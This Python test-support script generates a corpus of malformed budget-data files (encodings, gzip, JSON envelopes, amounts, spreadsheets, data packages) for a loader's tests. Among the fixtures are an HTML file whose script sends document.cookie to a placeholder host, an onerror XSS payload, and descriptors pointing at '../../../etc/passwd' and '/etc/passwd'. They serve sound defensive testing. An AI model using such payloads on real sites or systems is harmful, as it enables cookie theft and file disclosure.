"""Write the malformed-input corpus under tests/data/bad/ (run from the repository root; output is committed).

Every file is written by us from a tiny imaginary QWGJK export (가나군, 다라군) and imaginary budget tables; each
one breaks exactly one thing a real portal export can break. ``MANIFEST.toml`` says what ``yesan load`` must
answer for each. The big inputs (a 2 GB line, 10 MB of nested HTML, a gzip bomb, a FIFO) are made at test time
by ``tests/test_bad_inputs.py`` and never committed.

    python tests/data/bad/make_corpus.py
"""

from __future__ import annotations

import gzip
import io
import json
import random
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
MTIME = 1_767_225_600  # fixed gzip timestamps, so the files are byte-for-byte reproducible

HEADER = (
    "fyr,exe_ymd,wa_laf_hg_nm,laf_cd,laf_hg_nm,acnt_dv_nm,fld_nm,part_nm,dbiz_cd,dbiz_nm,"
    "bdg_cash_amt,bdg_ntep,capep,sggep,etc_amt,ep_amt,cpl_amt"
)
ROWS = [
    "2026,20260705,가나도,4711000,가나군,일반회계,사회복지,노인·청소년,1000000000000001,경로당 난방비 지원,"
    "120000000,60000000,30000000,30000000,0,80000000,120000000",
    "2026,20260705,가나도,4711000,가나군,일반회계,사회복지,노인·청소년,1000000000000002,청년 일자리 지원,"
    "300000000,0,100000000,200000000,0,150000000,300000000",
    '2026,20260705,가나도,4711000,가나군,일반회계,환경,폐기물,1000000000000003,"생활폐기물 수거, 운반",'
    "500000000,0,0,500000000,0,410000000,500000000",
    "2026,20260705,가나도,4712000,다라군,재난관리기금,공공질서및안전,재난방재·민방위,2000000000000002,"
    "재난 대비 장비 구입,70000000,0,0,70000000,0,0,70000000",
]
FIELDS = HEADER.split(",")

TABLE = """2026년도 가상군 세출예산 사업명세서
(단위: 천원)
분야,부문,세부사업명,예산액,국비,군비
사회복지,노인,경로당 냉난방 지원,"1,200",600,600
사회복지,노인,어르신 일자리,"3,000","1,500","1,500"
사회복지 소계,,,"4,200","2,100","2,100"
환경,폐기물,재활용품 수거,800,0,800
합계,,,"5,000","2,100","2,900"
"""


def qwgjk(rows: list[str] | None = None, header: str = HEADER) -> str:
    return "\n".join([header, *(ROWS if rows is None else rows)]) + "\n"


def with_cell(row: int, field: str, value: str) -> str:
    """The QWGJK file with one cell (data record ``row``, 1-based) replaced."""
    rows = [_split(r) for r in ROWS]
    rows[row - 1][FIELDS.index(field)] = value
    return qwgjk([",".join(_quote(c) for c in r) for r in rows])


def _split(line: str) -> list[str]:
    import csv

    return next(csv.reader([line]))


def _quote(cell: str) -> str:
    return f'"{cell}"' if any(ch in cell for ch in ',"\n') else cell


def json_rows() -> list[dict[str, str]]:
    return [dict(zip(FIELDS, _split(r), strict=True)) for r in ROWS]


def envelope(rows: list[dict[str, object]], total: object, code: str, message: str) -> dict[str, object]:
    head: list[dict[str, object]] = [{"list_total_count": total}, {"RESULT": {"CODE": code, "MESSAGE": message}}]
    return {"QWGJK": [{"head": head}, {"row": rows}]}


def gz(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=MTIME) as handle:
        handle.write(data)
    return buffer.getvalue()


CORE_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties '
    b'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'
)


def xlsx(build: object) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    build(workbook.active)  # type: ignore[operator]
    buffer = io.BytesIO()
    workbook.save(buffer)
    # openpyxl stamps the creation time into docProps/core.xml: rewrite the zip with fixed times and contents.
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = CORE_XML
            target.writestr(zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def merged_amount_header(sheet: object) -> None:
    sheet.append(["2026년 세출예산 (단위: 천원)"])  # type: ignore[attr-defined]
    sheet.append(["자치단체코드", "자치단체명", "세부사업명", "예산액", None])  # type: ignore[attr-defined]
    sheet.merge_cells("D2:E2")  # type: ignore[attr-defined]
    sheet.append(["4711000", "가나군", "경로당 지원", 100, 50])  # type: ignore[attr-defined]
    sheet.append(["4711000", "가나군", "도로 정비", 200, 70])  # type: ignore[attr-defined]


def second_header_row(sheet: object) -> None:
    sheet.append(["자치단체코드", "자치단체명", "세부사업명", "예산액", "국비"])  # type: ignore[attr-defined]
    sheet.append([None, None, None, "본예산", "본예산"])  # type: ignore[attr-defined]
    for cells in ("A1:A2", "B1:B2", "C1:C2"):
        sheet.merge_cells(cells)  # type: ignore[attr-defined]
    sheet.append(["4711000", "가나군", "경로당 지원", 100, 50])  # type: ignore[attr-defined]


def files() -> dict[str, bytes]:
    rng = random.Random(20260705)
    utf8 = qwgjk().encode("utf-8")
    out: dict[str, bytes] = {}
    # --- encodings --------------------------------------------------------------------------------
    out["encoding/cp949_with_utf8_bom.csv"] = b"\xef\xbb\xbf" + qwgjk().encode("cp949")
    lines = qwgjk().splitlines(keepends=True)
    out["encoding/mixed_utf8_then_cp949.csv"] = "".join(lines[:3]).encode() + "".join(lines[3:]).encode("cp949")
    out["encoding/mojibake_latin1_roundtrip.csv"] = qwgjk().encode("cp949").decode("latin-1").encode("utf-8")
    out["encoding/utf16_le.csv"] = qwgjk().encode("utf-16")
    out["encoding/table_mojibake.csv"] = TABLE.encode("cp949").decode("latin-1").encode("utf-8")
    out["encoding/table_cp949_with_utf8_bom.csv"] = b"\xef\xbb\xbf" + TABLE.encode("cp949")
    # --- gzip -------------------------------------------------------------------------------------
    packed = gz(utf8)
    out["gzip/truncated.csv.gz"] = packed[: len(packed) // 2]
    out["gzip/empty_stream.csv.gz"] = gz(b"")
    out["gzip/broken_header.csv.gz"] = b"\x1f\x8b" + bytes(rng.randrange(256) for _ in range(300))
    json_packed = gz(json.dumps(json_rows(), ensure_ascii=False).encode())
    out["gzip/truncated.json.gz"] = json_packed[: len(json_packed) - 40]
    out["gzip/flipped_byte.csv.gz"] = packed[:40] + bytes([packed[40] ^ 0xFF]) + packed[41:]
    # --- JSON and the OpenAPI envelope ------------------------------------------------------------
    full = json.dumps(json_rows(), ensure_ascii=False)
    out["json/truncated.json"] = full[: len(full) // 2].encode()
    out["json/api_337_daily_quota.json"] = _json(envelope([], 0, "337", "일일 트래픽 제한을 초과하였습니다."))
    missing = envelope([], 0, "ERROR-300", "필수 값이 누락되어 있습니다.")
    out["json/api_error_300_missing_parameter.json"] = _json(missing)
    out["json/api_error_290_bad_key.json"] = _json(envelope([], 0, "ERROR-290", "인증키가 유효하지 않습니다."))
    out["json/api_pages_missing.json"] = _json(envelope(list(json_rows()), 2000, "INFO-000", "정상 처리되었습니다."))
    out["json/api_no_head.json"] = _json({"QWGJK": [{"row": json_rows()}]})
    out["json/api_count_not_a_number.json"] = _json(envelope(list(json_rows()), "many", "INFO-000", "정상"))
    out["json/api_result_not_an_object.json"] = _json(
        {"QWGJK": [{"head": [{"list_total_count": 4}, {"RESULT": "OK"}]}, {"row": json_rows()}]}
    )
    out["json/api_row_not_a_list.json"] = _json(
        {"QWGJK": [{"head": [{"list_total_count": 4}]}, {"row": "no rows today"}]}
    )
    out["json/numbers_not_rows.json"] = b"[1, 2, 3]"
    out["json/deeply_nested.json"] = b"[" * 200_000 + b"]" * 200_000
    out["json/cp949_bytes.json"] = json.dumps(json_rows(), ensure_ascii=False).encode("cp949")
    out["json/thousands_of_field_names.json"] = _json([{f"field_{i}": "x"} for i in range(1500)])
    out["json/empty_array.json"] = b"[]"
    bad_lines = [json.dumps(r, ensure_ascii=False) for r in json_rows()]
    bad_lines[2] = bad_lines[2][:-10]
    out["json/lines_with_a_broken_line.jsonl"] = ("\n".join(bad_lines) + "\n").encode()
    odd = json_rows()
    odd[0] = {**odd[0], "bdg_cash_amt": {"won": 120000000}}  # type: ignore[dict-item]
    out["json/amount_is_an_object.json"] = _json(odd)
    # --- columns and rows -------------------------------------------------------------------------
    out["columns/missing_budget_column.csv"] = _drop_column("bdg_cash_amt").encode()
    out["columns/renamed_budget_column.csv"] = qwgjk(header=HEADER.replace("bdg_cash_amt", "budget_amt")).encode()
    out["columns/repeated_column.csv"] = qwgjk(header=HEADER + ",bdg_cash_amt", rows=[r + ",5" for r in ROWS]).encode()
    out["columns/extra_column.csv"] = qwgjk(header=HEADER + ",memo", rows=[r + ",메모" for r in ROWS]).encode()
    out["columns/row_with_a_missing_field.csv"] = qwgjk([ROWS[0], ROWS[1].rsplit(",", 1)[0], *ROWS[2:]]).encode()
    out["columns/row_with_an_extra_field.csv"] = qwgjk([ROWS[0], ROWS[1] + ",999", *ROWS[2:]]).encode()
    out["columns/unclosed_quote.csv"] = qwgjk([*ROWS[:2], ROWS[2].replace('운반"', "운반"), ROWS[3]]).encode()
    out["columns/header_only.csv"] = (HEADER + "\n").encode()
    out["columns/empty.csv"] = b""
    out["columns/blank_lines_only.csv"] = b"\n\n   \n\t\n"
    # --- amounts ----------------------------------------------------------------------------------
    amounts = {
        "commas_everywhere": (2, "bdg_cash_amt", "1,2,3"),
        "letters_after_eok": (2, "bdg_cash_amt", "12억abc"),
        "double_minus": (3, "bdg_cash_amt", "--5"),
        "exponent": (1, "bdg_cash_amt", "1e20"),
        "past_bigint": (4, "bdg_cash_amt", "9223372036854775808"),
        "negative_past_bigint": (4, "ep_amt", "-9223372036854775809"),
        "korean_units_past_bigint": (1, "bdg_cash_amt", "9999경"),
        "fraction_of_a_won": (2, "sggep", "1200.5"),
        "percentage": (1, "bdg_ntep", "12%"),
        "nan": (3, "bdg_cash_amt", "NaN"),
        "infinity": (3, "ep_amt", "Infinity"),
        "unbalanced_parenthesis": (2, "capep", "(1,234"),
        "ambiguous_triangle": (1, "etc_amt", "▲500"),
        "space_inside_number": (4, "cpl_amt", "70 000 000"),
        "missing_budget": (2, "bdg_cash_amt", ""),
        "nul_byte": (1, "bdg_cash_amt", "12\x0000000"),
        "hexadecimal": (3, "ep_amt", "0x1F"),
    }
    for name, (row, field, value) in amounts.items():
        out[f"amounts/{name}.csv"] = with_cell(row, field, value).encode()
    # --- rows that break a rule -------------------------------------------------------------------
    duplicate = _split(ROWS[1])
    duplicate[FIELDS.index("bdg_cash_amt")] = "310000000"
    out["rows/duplicate_item_different_amounts.csv"] = qwgjk([*ROWS, ",".join(_quote(c) for c in duplicate)]).encode()
    out["rows/government_code_too_short.csv"] = with_cell(3, "laf_cd", "47110").encode()
    out["rows/impossible_date.csv"] = with_cell(2, "exe_ymd", "20261340").encode()
    out["rows/year_in_words.csv"] = with_cell(1, "fyr", "이천이십육").encode()
    out["rows/item_name_missing.csv"] = with_cell(4, "dbiz_nm", "").encode()
    out["rows/snapshot_already_loaded_differently.csv"] = with_cell(1, "bdg_cash_amt", "120000001").encode()
    # --- generic tables ---------------------------------------------------------------------------
    out["tables/subtotal_does_not_add_up.csv"] = TABLE.replace('합계,,,"5,000"', '합계,,,"5,100"').encode("cp949")
    out["tables/no_budget_column.csv"] = TABLE.replace("예산액", "비고").encode()
    out["tables/no_item_name_column.csv"] = TABLE.replace("세부사업명", "내용").encode()
    out["tables/same_item_different_amounts.csv"] = TABLE.replace("어르신 일자리", "경로당 냉난방 지원").encode()
    out["tables/two_years_in_the_title.csv"] = TABLE.replace("2026년도", "2025년도·2026년도").encode()
    out["tables/unknown_stage.csv"] = (
        "회계연도,예산구분,세부사업명,예산액\n2026,본예산,가로등 정비,1000\n2026,가결산,보도 정비,2000\n"
    ).encode()
    out["tables/commas_in_an_amount.csv"] = TABLE.replace('"1,200"', '"1,2,3"').encode()
    out["tables/merged_amount_header.xlsx"] = xlsx(merged_amount_header)
    out["tables/second_header_row_not_recognised.xlsx"] = xlsx(second_header_row)
    out["tables/random_bytes.xlsx"] = bytes(rng.randrange(256) for _ in range(4096))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr(zipfile.ZipInfo("readme.txt", date_time=(2026, 1, 1, 0, 0, 0)), "not a workbook")
    out["tables/zip_that_is_not_a_workbook.xlsx"] = zipped.getvalue()
    html = (
        "<html><head><meta charset='utf-8'><script>document.location='http://example.invalid/'+document.cookie"
        "</script></head><body><table><tr><td>세부사업명</td><td>예산액</td></tr>"
        "<tr><td><img src=x onerror=alert(1)>경로당</td><td>1,000</td></tr></table></body></html>"
    )
    out["tables/html_saved_as.xls"] = html.encode()
    out["tables/html_with_script.html"] = html.encode()
    # --- junk -------------------------------------------------------------------------------------
    out["junk/random_bytes.csv"] = bytes(rng.randrange(256) for _ in range(8192))
    out["junk/png_image.csv"] = b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(2048))
    out["junk/nul_bytes.csv"] = b"\x00" * 4096
    out["junk/parquet_that_is_not.parquet"] = b"PAR1" + bytes(rng.randrange(256) for _ in range(1024))
    # --- population tables ------------------------------------------------------------------------
    out["population/same_year_two_figures.csv"] = b"gov_code,year,population\n4711000,2024,25000\n4711000,2024,26000\n"
    out["population/too_many_people.csv"] = b"gov_code,year,population\n4711000,2024,99999999999999999999999\n"
    out["population/bad_cells.csv"] = "gov_code,year,population\n4711000,2024,2만5천\n4712000,20x4,5\n".encode()
    # --- data packages ----------------------------------------------------------------------------
    schema = {"fields": [{"name": "세부사업명", "type": "string"}, {"name": "예산액", "type": "integer"}]}
    packages = {
        "path_escapes_the_folder": {"resources": [{"path": "../../../etc/passwd", "schema": schema}]},
        "absolute_path": {"resources": [{"path": "/etc/passwd", "schema": schema}]},
        "remote_path": {"resources": [{"path": "http://example.invalid/data.csv", "schema": schema}]},
        "value_breaks_schema": {"resources": [{"path": "data.csv", "schema": schema}]},
    }
    for name, descriptor in packages.items():
        out[f"packages/{name}/datapackage.json"] = _json(descriptor)
    out["packages/value_breaks_schema/data.csv"] = "세부사업명,예산액\n경로당 지원,1e20\n".encode()
    out["packages/descriptor_not_json/datapackage.json"] = b'{"resources": [ {"path": "data.csv",'
    return out


def _drop_column(field: str) -> str:
    index = FIELDS.index(field)
    rows = [[c for i, c in enumerate(_split(line)) if i != index] for line in [HEADER, *ROWS]]
    return "\n".join(",".join(_quote(c) for c in r) for r in rows) + "\n"


def _json(data: object) -> bytes:
    return json.dumps(data, ensure_ascii=False).encode("utf-8")


def main() -> None:
    written = files()
    for relative, data in sorted(written.items()):
        target = HERE / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    print(f"wrote {len(written)} files under {HERE}")


if __name__ == "__main__":
    main()
